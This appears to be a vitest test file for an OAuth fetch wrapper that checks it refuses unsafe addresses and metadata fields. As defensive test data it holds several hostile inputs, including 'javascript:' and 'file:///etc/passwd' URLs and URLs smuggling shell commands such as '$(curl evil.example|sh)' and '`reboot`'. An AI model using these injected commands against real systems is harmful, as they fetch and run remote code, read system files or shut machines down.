import { describe, expect, it, vi } from 'vitest';
import { oauthFetch } from './oauth-fetch';
import type { LockRunner } from './refresh-once';

const serverId = 'fetch-tests';
const noLock: LockRunner = (_name, task) => task();
const refreshForm = (token: string) => new URLSearchParams({ grant_type: 'refresh_token', refresh_token: token });
const json = (body: object) => new Response(JSON.stringify(body), { headers: { 'Content-Type': 'application/json' } });
const TOKEN_URL = 'https://auth.example.com/token';

describe('oauthFetch', () => {
  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,x', 'https://a.example/$(id)', 'http://evil.example/token'])(
    'never calls %s',
    async (address) => {
      const base = vi.fn(async () => new Response('{}'));
      await expect(oauthFetch(serverId, base, noLock)(address, { method: 'POST', body: refreshForm('r1') })).rejects.toThrow(
        /Refused the OAuth address/,
      );
      expect(base).not.toHaveBeenCalled();
    },
  );

  it('passes other requests through unchanged', async () => {
    const base = vi.fn(async () => new Response('{}'));
    const init = { method: 'POST', body: new URLSearchParams({ grant_type: 'authorization_code', code: 'x' }) };
    await oauthFetch(serverId, base, noLock)(TOKEN_URL, init);
    expect(base).toHaveBeenCalledWith(TOKEN_URL, init);
  });
});

describe('oauthFetch on metadata', () => {
  const metadataUrl = 'https://auth.example.com/.well-known/oauth-authorization-server';

  it.each([
    ['authorization_endpoint', 'javascript:alert(document.domain)'],
    ['token_endpoint', 'file:///etc/passwd'],
    ['registration_endpoint', 'https://auth.example.com/reg$(curl evil.example|sh)'],
    ['issuer', 'https://auth.example.com/`reboot`'],
  ])('refuses an authorization server whose %s is %s before anyone reads it', async (field, value) => {
    const base = vi.fn(async () => json({ issuer: 'https://auth.example.com', token_endpoint: TOKEN_URL, [field]: value }));
    await expect(oauthFetch(serverId, base, noLock)(metadataUrl)).rejects.toMatchObject({ field });
  });

  it('refuses a protected resource naming a file as its authorization server', async () => {
    const base = vi.fn(async () => json({ resource: 'https://mcp.example.com/mcp', authorization_servers: ['file:///etc'] }));
    const url = 'https://mcp.example.com/.well-known/oauth-protected-resource/mcp';
    await expect(oauthFetch(serverId, base, noLock)(url)).rejects.toMatchObject({ field: 'authorization_servers' });
  });

  it('hands sound metadata on unread', async () => {
    const base = vi.fn(async () => json({ issuer: 'https://auth.example.com', token_endpoint: TOKEN_URL }));
    const answer = await oauthFetch(serverId, base, noLock)(metadataUrl);
    expect(await answer.json()).toEqual({ issuer: 'https://auth.example.com', token_endpoint: TOKEN_URL });
  });
});
